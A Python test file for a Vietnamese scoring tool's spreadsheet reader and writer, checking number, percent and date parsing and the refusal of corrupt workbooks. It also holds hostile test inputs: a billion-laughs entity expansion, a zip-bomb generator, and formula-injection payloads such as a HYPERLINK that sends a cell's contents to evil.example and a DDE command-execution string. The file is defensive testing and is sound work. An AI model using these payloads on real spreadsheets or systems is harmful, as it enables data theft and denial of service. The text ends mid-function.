"""Hostile workbooks and hostile data in the tables we write (#9): every case asserts its outcome.

Reading: a cell is read as the person meant it (exact numbers, 85 % as 85, dates as dates, text
through the shared reading layer) or refused with a code and its cell; every row of a table comes
out as a unit or a named refusal; sizes are checked before anything is parsed. Writing: no CSV or
XLSX cell we write can run as a formula, and no terminal line carries an escape sequence.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import time
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

openpyxl = pytest.importorskip("openpyxl")

import cds_index  # noqa: E402
from cds_index.cli import main  # noqa: E402
from cds_index.errors import CODES  # noqa: E402
from cds_index.io import excel  # noqa: E402
from cds_index.io.batch import (  # noqa: E402
    BatchRow,
    UnitFailure,
    read_units,
    score_many,
    write_csv,
    write_json,
)
from cds_index.io.safe import FORMULA_STARTS, cell_number, cell_text, csv_cell, terminal  # noqa: E402
from cds_index.read.inputs import UnitInputs, coerce  # noqa: E402

WORKBOOK_CODES = {
    "excel-corrupt",
    "excel-formula-no-value",
    "excel-cell-error",
    "excel-text-too-long",
    "excel-stray-cell",
    "merged-cells",  # triggered in tests/test_hostile_session8.py (#11)
    "excel-hidden-row",  # triggered in tests/test_tables_session11.py (#11)
}
"""Codes only a workbook produces; each is triggered below (test_error_codes counts them)."""

DEFINITION = """\
kind: definition
format: 1
id: bang
title: Bộ chỉ số thử nghiệm bảng
issuer: Ủy ban nhân dân tỉnh Thử
decision: {number: 9/QĐ-UBND, date: 2024-01-15}
level: commune
effective: {from: 2024-01-15}
scoring: points
total: 20
inputs:
  staff: {label: Số cán bộ, type: integer, unit: person, min: 0, general: true}
  trained: {label: Số cán bộ được đào tạo, type: number, unit: person, min: 0}
  online_pct: {label: Tỷ lệ hồ sơ trực tuyến, type: number, unit: percent, min: 0, max: 100}
  has_plan: {label: Có kế hoạch, type: boolean}
  plan_date: {label: Ngày ban hành kế hoạch, type: date}
tree:
  - id: A
    title: Nhận thức số
    points: 20
    children:
      - {id: A.1, title: Có kế hoạch, points: 4, rule: {kind: yes_no, input: has_plan, assumed: x}}
      - id: A.2
        title: Tỷ lệ cán bộ được đào tạo
        points: 6
        rule: {kind: ratio, input: trained, per: staff, assumed: x}
      - id: A.3
        title: Tỷ lệ hồ sơ trực tuyến
        points: 10
        rule: {kind: ratio, input: online_pct, target: 0.8, assumed: x}
"""
HEADER = ["unit_id", "unit_name", "staff", "trained", "online_pct", "has_plan", "plan_date"]
COLUMN = {name: openpyxl.utils.get_column_letter(i + 1) for i, name in enumerate(HEADER)}
SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture(scope="session")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("tables")


@pytest.fixture(scope="session")
def definition(folder: Path) -> cds_index.Definition:
    path = folder / "bang.yaml"
    path.write_text(DEFINITION, encoding="utf-8")
    return cds_index.read.registry.load_file(path)


_counter = [0]


def _path(folder: Path, stem: str = "t") -> Path:
    _counter[0] += 1
    return folder / f"{stem}-{_counter[0]}.xlsx"


def write_table(
    folder: Path,
    rows: list[list[Any]],
    *,
    header: list[Any] | None = None,
    formats: dict[str, str] | None = None,
    edit: Callable[[str], str] | None = None,
    setup: Callable[[Any], None] | None = None,
) -> Path:
    """A one-row-per-unit workbook; ``formats`` gives cells a number format, ``edit`` rewrites its XML."""
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(HEADER if header is None else header)
    for row in rows:
        ws.append(row)
    for ref, fmt in (formats or {}).items():
        ws[ref].number_format = fmt
    if setup is not None:
        setup(book)
    path = _path(folder)
    book.save(path)
    if edit is not None:
        rewrite(path, SHEET, edit)
    return path


def rewrite(path: Path, part: str, edit: Callable[[str], str]) -> None:
    """Replace one XML part of a workbook by ``edit(its text)``."""
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    parts[part] = edit(parts[part].decode("utf-8")).encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def read(definition: cds_index.Definition, path: Path) -> list[UnitInputs | UnitFailure]:
    return list(read_units(definition, [path]))


def only_unit(definition: cds_index.Definition, path: Path) -> UnitInputs:
    (unit,) = read(definition, path)
    assert isinstance(unit, UnitInputs), unit
    return unit


def codes(unit: UnitInputs | UnitFailure) -> list[str]:
    return [p.code for p in unit.problems]


# --- one cell, read as the person meant it -------------------------------------------------------

# (input, the cell as written, its number format or None, the value read)
TYPED = [
    # numbers are exact Decimals, never binary artefacts
    ("staff", 9500, None, Decimal(9500)),
    ("staff", 9500.0, None, Decimal(9500)),
    ("trained", 69.18, None, Decimal("69.18")),  # stored as 69.18000000000001 by openpyxl
    ("trained", 0.1 + 0.2, None, Decimal("0.3")),  # 0.30000000000000004 in the file
    ("trained", 81.07, None, Decimal("81.07")),
    ("trained", 12.5, "#,##0.00", Decimal("12.5")),
    # a percent cell (85 % is stored 0.85) is 85 for a percent input
    ("online_pct", 0.85, "0%", Decimal(85)),
    ("online_pct", 0.855, "0.0%", Decimal("85.5")),
    ("online_pct", 0.8525, "0.00%", Decimal("85.25")),
    ("online_pct", 1, "0%", Decimal(100)),
    ("online_pct", 0, "0%", Decimal(0)),
    ("online_pct", 85, None, Decimal(85)),  # typed as a plain number: read as typed
    ("online_pct", 0.85, '0.00" %"', Decimal("0.85")),  # a quoted % is text, not a percent format
    ("trained", 0.5, "0%", Decimal("0.5")),  # 50 % of a person count: the stored share
    # dates and booleans
    ("plan_date", dt.datetime(2025, 6, 20), "DD/MM/YYYY", dt.date(2025, 6, 20)),
    ("plan_date", dt.date(2024, 2, 29), "yyyy-mm-dd", dt.date(2024, 2, 29)),
    ("has_plan", True, None, True),
    ("has_plan", False, None, False),
    ("has_plan", "Có", None, True),
    ("has_plan", "không", None, False),
    ("has_plan", 1, None, True),
    # text cells
    ("trained", "0,5", None, Decimal("0.5")),
    ("trained", "  12  ", None, Decimal(12)),
]


@pytest.mark.parametrize(("name", "written", "fmt", "expected"), TYPED)
def test_a_cell_is_read_as_meant(
    definition: cds_index.Definition, folder: Path, name: str, written: Any, fmt: str | None, expected: Any
) -> None:
    row: list[Any] = ["xa-a", "Xã A", 10, None, None, None, None]
    row[HEADER.index(name)] = written
    formats = {f"{COLUMN[name]}2": fmt} if fmt else None
    unit = only_unit(definition, write_table(folder, [row], formats=formats))
    assert unit.problems == []
    value = unit.values[name].value
    assert value == expected and type(value) is type(expected)
    assert str(value) == str(expected)  # 100 %, not 1E+2, in every output


# Text as officials type it goes to the shared reading layer unchanged (inputs.coerce): the Excel
# reader parses no number of its own, so CSV, YAML and Excel read `9.500` alike.
VIETNAMESE_TEXT = [
    ("staff", "9.500"),
    ("staff", "1.250.000"),
    ("staff", "9 500"),
    ("trained", "1.250,5"),
    ("trained", "1.000"),
    ("online_pct", "85%"),
    ("online_pct", "85,5 %"),
    ("plan_date", "20/06/2025"),
    ("plan_date", "2025-06-20"),
    ("has_plan", "đạt"),
    ("has_plan", "x"),
    ("trained", "Infinity"),
    ("trained", "1e400"),
    ("trained", "năm"),
]


@pytest.mark.parametrize(("name", "text"), VIETNAMESE_TEXT)
def test_text_cells_are_read_by_the_shared_layer(
    definition: cds_index.Definition, folder: Path, name: str, text: str
) -> None:
    row: list[Any] = ["xa-a", "Xã A", 10, None, None, None, None]
    row[HEADER.index(name)] = text
    unit = only_unit(definition, write_table(folder, [row]))
    value, code, _ = coerce(text.strip(), definition.inputs[name])
    if code is None:
        assert unit.values[name].value == value and not unit.problems
    else:
        (problem,) = unit.problems
        assert problem.code == code
        assert problem.message.startswith(f"Sheet!{COLUMN[name]}2: ")


def test_not_applicable_and_empty_text(definition: cds_index.Definition, folder: Path) -> None:
    unit = only_unit(definition, write_table(folder, [["xa-a", "Xã A", 10, "n/a", "", "   ", None]]))
    assert unit.values["trained"].not_applicable
    assert "online_pct" not in unit.values and "has_plan" not in unit.values  # blank: not reported
    assert unit.problems == []


def test_a_numeric_unit_id_is_its_digits(definition: cds_index.Definition, folder: Path) -> None:
    units = read(definition, write_table(folder, [[12, "Xã 12", 10], [13.0, "Xã 13", 10]]))
    assert [u.unit_id for u in units] == ["12", "13"]


# --- cells that hold no usable value: refused with their code and cell ---------------------------


def _formula_with(cached: str) -> Callable[[str], str]:
    return lambda xml: re.sub(r"<v\s*/>", f"<v>{cached}</v>", xml, count=1)


def _replace_cell(ref: str, xml_cell: str) -> Callable[[str], str]:
    return lambda xml: re.sub(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', xml_cell, xml, count=1)


# (what the file holds in D2 — the `trained` cell — as an edit of the sheet XML, expected code)
BAD_CELLS = [
    ("formula, no stored result", None, "=SUM(1,2)", "excel-formula-no-value"),
    (
        "shared formula, no result",
        _replace_cell("D2", '<c r="D2"><f t="shared" si="0"/></c>'),
        None,
        "excel-formula-no-value",
    ),
    ("#N/A", None, "#N/A", "excel-cell-error"),
    (
        "#DIV/0! from a formula",
        _replace_cell("D2", '<c r="D2" t="e"><f>1/0</f><v>#DIV/0!</v></c>'),
        None,
        "excel-cell-error",
    ),
    ("NaN stored", _replace_cell("D2", '<c r="D2"><v>NaN</v></c>'), None, "excel-cell-error"),
    ("Infinity stored", _replace_cell("D2", '<c r="D2"><v>Infinity</v></c>'), None, "excel-cell-error"),
    ("garbage number", _replace_cell("D2", '<c r="D2"><v>12abc</v></c>'), None, "excel-corrupt"),
    (
        "shared string out of range",
        _replace_cell("D2", '<c r="D2" t="s"><v>99999</v></c>'),
        None,
        "excel-corrupt",
    ),
    (
        "shared string not a number",
        _replace_cell("D2", '<c r="D2" t="s"><v>x</v></c>'),
        None,
        "excel-corrupt",
    ),
    ("bad ISO date", _replace_cell("D2", '<c r="D2" t="d"><v>2025-13-45</v></c>'), None, "excel-cell-error"),
    (
        "text longer than Excel allows",
        _replace_cell("D2", '<c r="D2" t="inlineStr"><is><t>' + "9" * 40_000 + "</t></is></c>"),
        None,
        "excel-text-too-long",
    ),
]


@pytest.mark.parametrize(("case", "edit", "written", "code"), BAD_CELLS, ids=[c[0] for c in BAD_CELLS])
def test_a_cell_without_a_usable_value_is_refused_at_its_cell(
    definition: cds_index.Definition,
    folder: Path,
    case: str,
    edit: Callable[[str], str] | None,
    written: Any,
    code: str,
) -> None:
    path = write_table(folder, [["xa-a", "Xã A", 10, written if written is not None else 1, 50]], edit=edit)
    (row,) = list(score_many(definition, [path]))
    assert not row.ok and row.result is not None  # the unit is scored, the criterion invalid
    (problem,) = row.problems
    assert problem.code == code
    assert problem.message.startswith("Sheet!D2: ")
    assert (problem.location.line, problem.location.column) == (2, 4)
    assert problem.location.path[-1] == "trained"
    assert {c.status for c in row.result.criteria() if "trained" in c.inputs} == {"invalid"}
    assert row.result.criteria()[2].status == "scored"  # the other values still count


def test_a_formula_with_its_stored_result_is_that_result(
    definition: cds_index.Definition, folder: Path
) -> None:
    path = write_table(folder, [["xa-a", "Xã A", 10, "=4+3"]], edit=_formula_with("7"))
    unit = only_unit(definition, path)
    assert unit.values["trained"].value == 7 and unit.problems == []


def test_a_date_serial_beyond_any_date_is_refused(definition: cds_index.Definition, folder: Path) -> None:
    path = write_table(
        folder, [["xa-a", "Xã A", 10, None, None, None, dt.date(2025, 1, 1)]], formats={"G2": "DD/MM/YYYY"}
    )
    rewrite(path, SHEET, lambda xml: re.sub(r'(<c r="G2"[^>]*><v>)[^<]*', r"\g<1>99999999999", xml))
    (problem,) = only_unit(definition, path).problems
    assert problem.code == "excel-cell-error" and problem.message.startswith("Sheet!G2: ")


# --- the real cell range, not the stored <dimension> ---------------------------------------------

DIMENSIONS = ["A1:B2", "A1", "A1:A1", "C3:D4", "A1:XFD1048576", "B2:A1"]


@pytest.mark.parametrize("claimed", DIMENSIONS)
def test_every_row_and_column_is_read_whatever_the_dimension_says(
    definition: cds_index.Definition, folder: Path, claimed: str
) -> None:
    rows = [[f"xa-{i}", f"Xã {i}", 10, i % 10, 50, "Có"] for i in range(12)]
    path = write_table(
        folder, rows, edit=lambda xml: re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="{claimed}"', xml)
    )
    assert f'ref="{claimed}"' in zipfile.ZipFile(path).read(SHEET).decode()
    units = read(definition, path)
    assert [u.unit_id for u in units] == [f"xa-{i}" for i in range(12)]
    assert all(isinstance(u, UnitInputs) and not u.problems for u in units)
    assert units[-1].values["has_plan"].value is True  # column F, beyond a claimed B


def test_a_sheet_without_dimension_and_cells_without_addresses(
    definition: cds_index.Definition, folder: Path
) -> None:
    def strip(xml: str) -> str:
        xml = re.sub(r"<dimension[^>]*/>", "", xml)
        return re.sub(r'(<c) r="[A-Z]+[0-9]+"', r"\1", xml)  # cells placed by their order in the row

    path = write_table(folder, [["xa-a", "Xã A", 10, 5, 50]], edit=strip)
    unit = only_unit(definition, path)
    assert unit.values["online_pct"].value == 50 and unit.values["trained"].value == 5


# --- values outside the table, and accounting: rows in = rows out ---------------------------------


def test_a_value_in_a_column_without_a_header_names_its_cell(
    definition: cds_index.Definition, folder: Path
) -> None:
    path = write_table(folder, [["xa-a", "Xã A", 10, 5, 50, "Có", None, None, "lạc"]])
    unit = only_unit(definition, path)
    (problem,) = unit.problems
    assert problem.code == "excel-stray-cell" and problem.message.startswith("Sheet!I2: ")
    assert "'lạc'" in problem.message
    assert (problem.location.line, problem.location.column) == (2, 9)


def test_a_value_under_a_blank_header_names_its_cell(definition: cds_index.Definition, folder: Path) -> None:
    header = ["unit_id", "unit_name", "staff", None, "online_pct"]
    path = write_table(folder, [["xa-a", "Xã A", 10, 99, 50]], header=header)
    (problem,) = only_unit(definition, path).problems
    assert problem.code == "excel-stray-cell" and problem.message.startswith("Sheet!D2: ")


def test_a_row_holding_only_a_stray_value_is_refused_not_dropped(
    definition: cds_index.Definition, folder: Path
) -> None:
    path = write_table(folder, [["xa-a", "Xã A", 10], [None] * 10 + ["ghi chú"], ["xa-b", "Xã B", 10]])
    units = read(definition, path)
    assert [type(u).__name__ for u in units] == ["UnitInputs", "UnitFailure", "UnitInputs"]
    assert codes(units[1]) == ["excel-stray-cell"] and "Sheet!K3" in units[1].problems[0].message


def test_a_row_holding_only_a_formula_without_result_is_refused(
    definition: cds_index.Definition, folder: Path
) -> None:
    path = write_table(folder, [["xa-a", "Xã A", 10], [None, None, None, "=1+1"]])
    units = read(definition, path)
    assert isinstance(units[1], UnitFailure) and codes(units[1]) == ["excel-formula-no-value"]


@pytest.mark.parametrize("bad", [0, 1, 3, 7])
def test_rows_in_equal_rows_out(definition: cds_index.Definition, folder: Path, bad: int) -> None:
    """k malformed rows among n: n rows come out, n - k scored, k refused, each named."""
    n = 9
    rows: list[list[Any]] = [[f"xa-{i}", f"Xã {i}", 10, i, 50, "Có"] for i in range(n)]
    for i in range(bad):
        rows[i] = [f"xa-{i}", f"Xã {i}", 10, "=1/0", "nhiều", "Có", None, None, "lạc"]
    path = write_table(
        folder,
        rows,
        edit=lambda xml: xml.replace("<v />", "<v>#DIV/0!</v>").replace("<f>1/0</f><v>", "<f>1/0</f><v>"),
    )
    out = list(score_many(definition, [path]))
    assert [r.unit_id for r in out] == [f"xa-{i}" for i in range(n)]
    assert sum(r.ok for r in out) == n - bad
    for r in out[:bad]:
        assert {p.code for p in r.problems} >= {"excel-stray-cell", "input-type"}
        assert all(p.message.startswith("Sheet!") for p in r.problems)


def test_merged_cells_leave_the_rows_below_without_an_id(
    definition: cds_index.Definition, folder: Path
) -> None:
    def merge(book: Any) -> None:
        book.active.merge_cells("A2:A3")

    path = write_table(folder, [["xa-a", "Xã A", 10, 5], [None, "Xã A (tiếp)", 10, 6]], setup=merge)
    units = read(definition, path)
    assert len(units) == 2 and isinstance(units[1], UnitFailure)
    assert codes(units[1]) == ["missing-key", "merged-cells"]
    assert units[1].problems[0].message.startswith("Sheet!A3: ")
    assert codes(units[0]) == ["merged-cells"]  # the id shown over both rows: neither is read as xa-a's (#11)


def test_merged_header_across_two_columns_leaves_a_stray_column(
    definition: cds_index.Definition, folder: Path
) -> None:
    def merge(book: Any) -> None:
        book.active.merge_cells("C1:D1")

    path = write_table(
        folder, [["xa-a", "Xã A", 10, 5]], header=["unit_id", "unit_name", "staff", None], setup=merge
    )
    (problem,) = only_unit(definition, path).problems
    assert problem.code == "excel-stray-cell" and "Sheet!D2" in problem.message


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_hidden_sheets_with_units_are_read(
    definition: cds_index.Definition, folder: Path, state: str
) -> None:
    def hide(book: Any) -> None:
        extra = book.create_sheet("An")
        extra.append(HEADER)
        extra.append(["xa-an", "Xã ẩn", 10, 1])
        extra.sheet_state = state
        lists = book.create_sheet("Danh sách")
        lists.append(["Có", "Không"])  # the choices behind a drop-down: no units
        lists.sheet_state = state

    units = read(definition, write_table(folder, [["xa-a", "Xã A", 10]], setup=hide))
    assert [u.unit_id for u in units] == ["xa-a", "xa-an"]


def test_two_tables_and_an_empty_sheet(definition: cds_index.Definition, folder: Path) -> None:
    def more(book: Any) -> None:
        book.create_sheet("Trống")
        other = book.create_sheet("Đợt 2")
        other.append(HEADER)
        other.append(["xa-c", "Xã C", 10, 2])

    units = read(
        definition, write_table(folder, [["xa-a", "Xã A", 10], [], ["xa-b", "Xã B", 10]], setup=more)
    )
    assert [u.unit_id for u in units] == ["xa-a", "xa-b", "xa-c"]
    assert units[2].source and units[2].source.endswith("!Đợt 2!2")


# --- damaged sheets: the rows before the damage are scored, the damage is named ---------------------


def _laughs(xml: str) -> str:
    """Ten nested entities: the name of Xã 3 would expand to a billion characters."""
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(9)
    )
    start = xml.index("<worksheet")
    body = xml[start:].replace("<t>Xã 3</t>", "<t>&j;</t>")
    assert body != xml[start:]
    return f"<!DOCTYPE worksheet [{entities}]>" + body


DAMAGED = [
    ("truncated XML", lambda xml: xml[: xml.index('<row r="4"')] + '<row r="4"><c r="A4" t="inl'),
    ("row number 0", lambda xml: xml.replace('<row r="4"', '<row r="0"', 1)),
    ("cell of another row", lambda xml: xml.replace('<c r="A4"', '<c r="A9"', 1)),
    ("column beyond XFD", lambda xml: xml.replace('<c r="A4"', '<c r="XFE4"', 1)),
    ("address that is no address", lambda xml: xml.replace('<c r="A4"', '<c r="4A"', 1)),
    ("billion laughs", lambda xml: _laughs(xml)),
]


@pytest.mark.parametrize(("case", "damage"), DAMAGED, ids=[c[0] for c in DAMAGED])
def test_a_damaged_sheet_keeps_the_rows_before_and_names_the_damage(
    definition: cds_index.Definition, folder: Path, case: str, damage: Callable[[str], str]
) -> None:
    path = write_table(folder, [[f"xa-{i}", f"Xã {i}", 10] for i in range(5)], edit=damage)
    units = read(definition, path)
    good = [u for u in units if isinstance(u, UnitInputs)]
    failures = [u for u in units if isinstance(u, UnitFailure)]
    assert failures and failures[-1].problems[0].code == "excel-corrupt", units
    problem = failures[-1].problems[0]
    assert problem.location.file == str(path) and problem.message.startswith("Sheet!A")
    # the damage is in row 4 (xa-2); expat refuses the entities where they are used (row 5, xa-3)
    expected = ["xa-0", "xa-1", "xa-2"] if case == "billion laughs" else ["xa-0", "xa-1"]
    assert [u.unit_id for u in good] == expected
    assert problem.location.line == len(expected) + 2


# --- files that are not workbooks, and zip bombs: refused before openpyxl parses -------------------


def _not_zip(path: Path) -> None:
    path.write_bytes(b"PK\x03\x04 this is not really a zip")


def _empty(path: Path) -> None:
    path.write_bytes(b"")


def _text(path: Path) -> None:
    path.write_text("unit_id,staff\nxa-a,10\n", encoding="utf-8")


def _zip_without_workbook(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "xin chào")


def _truncated(path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(HEADER)
    book.save(path)
    path.write_bytes(path.read_bytes()[:-200])


def _broken_workbook_xml(path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(HEADER)
    book.save(path)
    rewrite(path, "xl/workbook.xml", lambda xml: xml[: len(xml) // 2])


@pytest.mark.parametrize(
    "make", [_not_zip, _empty, _text, _zip_without_workbook, _truncated, _broken_workbook_xml]
)
def test_a_file_that_is_not_a_workbook_is_a_positioned_refusal(
    definition: cds_index.Definition, folder: Path, make: Callable[[Path], None]
) -> None:
    path = _path(folder)
    make(path)
    (failure,) = read(definition, path)
    assert isinstance(failure, UnitFailure)
    (problem,) = failure.problems
    assert problem.code == "excel-corrupt" and problem.location.file == str(path)
    assert "Traceback" not in problem.message and "save it again" in problem.message


def test_a_folder_named_like_a_workbook(definition: cds_index.Definition, folder: Path) -> None:
    path = folder / "thu-muc.xlsx"
    path.mkdir(exist_ok=True)
    (failure,) = list(excel.read_workbook(definition, path))
    assert isinstance(failure, UnitFailure) and failure.problems[0].code == "file-not-found"
    assert "not a regular file" in failure.problems[0].message


def test_a_pipe_named_like_a_workbook_is_refused_before_it_is_opened(
    definition: cds_index.Definition, folder: Path
) -> None:
    import os

    path = folder / "ong.xlsx"
    if not path.exists():
        os.mkfifo(path)  # opening it would wait for a writer forever
    (failure,) = list(excel.read_workbook(definition, path))
    assert isinstance(failure, UnitFailure) and "not a regular file" in failure.problems[0].message


def test_a_title_above_the_table_is_not_its_header(definition: cds_index.Definition, folder: Path) -> None:
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["DANH SÁCH SỐ LIỆU CÁC XÃ NĂM 2024"])
    ws.append([])
    ws.append(["Mã đơn vị", "Tên đơn vị", "Số cán bộ", "trained"])  # a label and a name as headers
    ws.append(["xa-a", "Xã A", 12, 3])
    path = _path(folder)
    book.save(path)
    unit = only_unit(definition, path)
    assert unit.unit_id == "xa-a" and unit.values["staff"].value == 12 and unit.values["trained"].value == 3


@pytest.fixture(scope="session")
def zip_bomb(folder: Path) -> Path:
    """A workbook whose sheet inflates to 1 GiB of zeros (about 1 MB on disk)."""
    path = folder / "bomb.xlsx"
    book = openpyxl.Workbook()
    book.active.append(HEADER)
    book.save(path)
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist() if info.filename != SHEET}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        chunk = b"0" * (1 << 20)
        with archive.open(SHEET, "w", force_zip64=True) as sheet:
            for _ in range(1024):
                sheet.write(chunk)
    return path


def test_a_zip_bomb_is_refused_from_the_central_directory(
    definition: cds_index.Definition, zip_bomb: Path
) -> None:
    assert zip_bomb.stat().st_size < 8 * 1024 * 1024
    started = time.process_time()
    (failure,) = read(definition, zip_bomb)
    assert time.process_time() - started < 2  # nothing was inflated
    assert isinstance(failure, UnitFailure)
    (problem,) = failure.problems
    assert problem.code == "file-too-large" and SHEET in problem.message


def test_a_large_styles_part_is_refused(definition: cds_index.Definition, folder: Path) -> None:
    path = write_table(folder, [["xa-a", "Xã A", 10]])
    rewrite(
        path,
        "xl/styles.xml",
        lambda xml: xml.replace("</styleSheet>", "<!--" + " " * (9 << 20) + "--></styleSheet>"),
    )
    (failure,) = read(definition, path)
    assert isinstance(failure, UnitFailure) and failure.problems[0].code == "file-too-large"
    assert "xl/styles.xml" in failure.problems[0].message


def test_too_many_cells_stop_with_the_row_named(
    definition: cds_index.Definition, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(excel, "MAX_CELLS", 20)
    path = write_table(folder, [[f"xa-{i}", f"Xã {i}", 10] for i in range(10)])
    units = read(definition, path)
    failure = units[-1]
    assert isinstance(failure, UnitFailure) and failure.problems[0].code == "file-too-large"
    scored = [u.unit_id for u in units if isinstance(u, UnitInputs)]
    assert scored == [f"xa-{i}" for i in range(len(scored))] and 4 <= len(scored) < 10
    assert f"Sheet!A{len(scored) + 2}" in failure.problems[0].message


# --- the self-assessment form ----------------------------------------------------------------------


@pytest.fixture(scope="session")
def form(definition: cds_index.Definition, folder: Path) -> tuple[Path, dict[str, int]]:
    path = folder / "form.xlsx"
    excel.write_template(definition, path)
    ws = openpyxl.load_workbook(path).active
    rows = {c.value: c.row for c in ws["A"] if isinstance(c.value, str) and c.value in definition.inputs}
    return path, rows


def _filled(
    form: tuple[Path, dict[str, int]], folder: Path, fill: Callable[[Any, dict[str, int]], None]
) -> Path:
    source, rows = form
    book = openpyxl.load_workbook(source)
    ws = book.active
    ws["B4"] = "xa-mau"
    ws["B5"] = "Xã Mẫu"
    ws["B6"] = 2024
    fill(ws, rows)
    path = _path(folder, "form")
    book.save(path)
    return path


def test_the_form_reads_percent_and_date_cells(
    definition: cds_index.Definition, folder: Path, form: Any
) -> None:
    def fill(ws: Any, rows: dict[str, int]) -> None:
        ws.cell(rows["online_pct"], 5, 0.85).number_format = "0%"
        ws.cell(rows["staff"], 5, 9500.0)
        ws.cell(rows["has_plan"], 5, "Có")
        ws.cell(rows["has_plan"], 7, dt.datetime(2025, 6, 20))

    unit = only_unit(definition, _filled(form, folder, fill))
    assert unit.problems == [] and unit.year == 2024
    assert unit.values["online_pct"].value == Decimal(85)
    assert unit.values["staff"].value == Decimal(9500)
    assert unit.values["has_plan"].date == dt.date(2025, 6, 20)


def test_the_form_flags_a_formula_and_a_value_outside_its_columns(
    definition: cds_index.Definition, folder: Path, form: Any
) -> None:
    def fill(ws: Any, rows: dict[str, int]) -> None:
        ws.protection.sheet = False
        ws.cell(rows["staff"], 5, "=10*2")
        ws.cell(rows["trained"], 12, 7)  # column L: beyond the form

    path = _filled(form, folder, fill)
    unit = only_unit(definition, path)
    _, rows = form
    found = {p.code: p for p in unit.problems}
    assert set(found) == {"excel-formula-no-value", "excel-stray-cell"}
    sheet = "'Tự đánh giá'"
    assert found["excel-formula-no-value"].message.startswith(f"{sheet}!E{rows['staff']}: ")
    assert found["excel-stray-cell"].message.startswith(f"{sheet}!L{rows['trained']}: ")


def test_the_form_is_protected_but_its_cells_to_fill_are_not(form: Any) -> None:
    path, rows = form
    ws = openpyxl.load_workbook(path).active
    assert ws.protection.sheet
    row = rows["staff"]
    assert ws.cell(row, 1).protection.locked  # the key column
    assert not ws.cell(row, 5).protection.locked and not ws.cell(row, 6).protection.locked
    assert not ws["B4"].protection.locked and ws["B6"].value is None  # the year: the unit writes it
    titles = [c.value for c in ws["A"] if isinstance(c.value, str) and c.value.isupper()]
    assert "A. NHẬN THỨC SỐ" in titles and not any(re.match(r"^[IVX]+\. [A-Z]+\. ", t) for t in titles)


# --- writing: no cell we write can start a formula --------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "  =1+1",
    "\u3000=1+1",
    "\xa0=1+1",
    "=1+1\x1b[31m",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cell_text_makes_a_formula_inert(payload: str) -> None:
    text = cell_text(payload)
    assert text.startswith("'") and text.lstrip("'").strip() == terminal(payload).strip()
    assert "\x1b" not in text


@pytest.mark.parametrize("benign", ["Xã Đông Sơn", "1-2", "a=b", "", "'đã có dấu", "Phường 5 (TP. Huế)"])
def test_cell_text_leaves_ordinary_text_alone(benign: str) -> None:
    assert cell_text(benign) == benign


@pytest.mark.parametrize(
    ("value", "places", "text"),
    [
        (Decimal("-5"), 2, "-5"),  # a number we wrote stays a number, minus sign and all
        (Decimal("44.333333333333333333"), 2, "44.33"),
        (Decimal("44.335"), 2, "44.34"),  # half up, as the decision rounds
        (Decimal("44.333333333333333333"), None, "44.333333333333333333"),
        (Decimal("-0.001"), 2, "0"),
        (7, 2, "7"),
    ],
)
def test_numbers_are_written_as_numbers(value: Decimal | int, places: int | None, text: str) -> None:
    assert cell_number(value, places) == text == csv_cell(value, places)


def _rows_named(definition: cds_index.Definition, name: str) -> list[BatchRow]:
    good = UnitInputs("xa-tot", name, 2024)
    good.values.update(
        {
            "staff": cds_index.read.inputs.Value(Decimal(3)),
            "trained": cds_index.read.inputs.Value(Decimal(1)),
            "online_pct": cds_index.read.inputs.Value(Decimal(50)),
        }
    )
    bad = UnitFailure(name, name, name, (cds_index.errors.Problem("input-type", f"{name} is bad"),))
    return list(score_many(definition, [good, bad]))


@pytest.mark.parametrize("payload", PAYLOADS[:6] + PAYLOADS[8:10])
def test_no_csv_cell_starts_a_formula(definition: cds_index.Definition, payload: str) -> None:
    stream = io.StringIO()
    write_csv(definition, _rows_named(definition, payload), stream)
    cells = [c for row in csv.reader(io.StringIO(stream.getvalue())) for c in row]
    assert any(c.lstrip("'").strip().startswith(payload.strip()[:3]) for c in cells)  # the name is there
    for c in cells:
        first = c.lstrip()[:1]
        assert not c or c[0] == "'" or (first not in FORMULA_STARTS) or re.fullmatch(r"-?[0-9.]+", c), c
    # and the numbers are numbers: A.2 is 1/3 of 6 points, rounded to display.decimals
    line = next(csv.DictReader(io.StringIO(stream.getvalue())))
    assert line["points"] == "8.25" and line["percent"] == "41.25"  # 0 + 6·1/3 + 10·50/80


@pytest.mark.parametrize("payload", PAYLOADS[:3] + PAYLOADS[8:9] + PAYLOADS[10:11])
def test_no_xlsx_cell_is_a_formula(definition: cds_index.Definition, folder: Path, payload: str) -> None:
    path = _path(folder, "results")
    excel.write_results(definition, _rows_named(definition, payload), path)
    book = openpyxl.load_workbook(path)
    seen = False
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
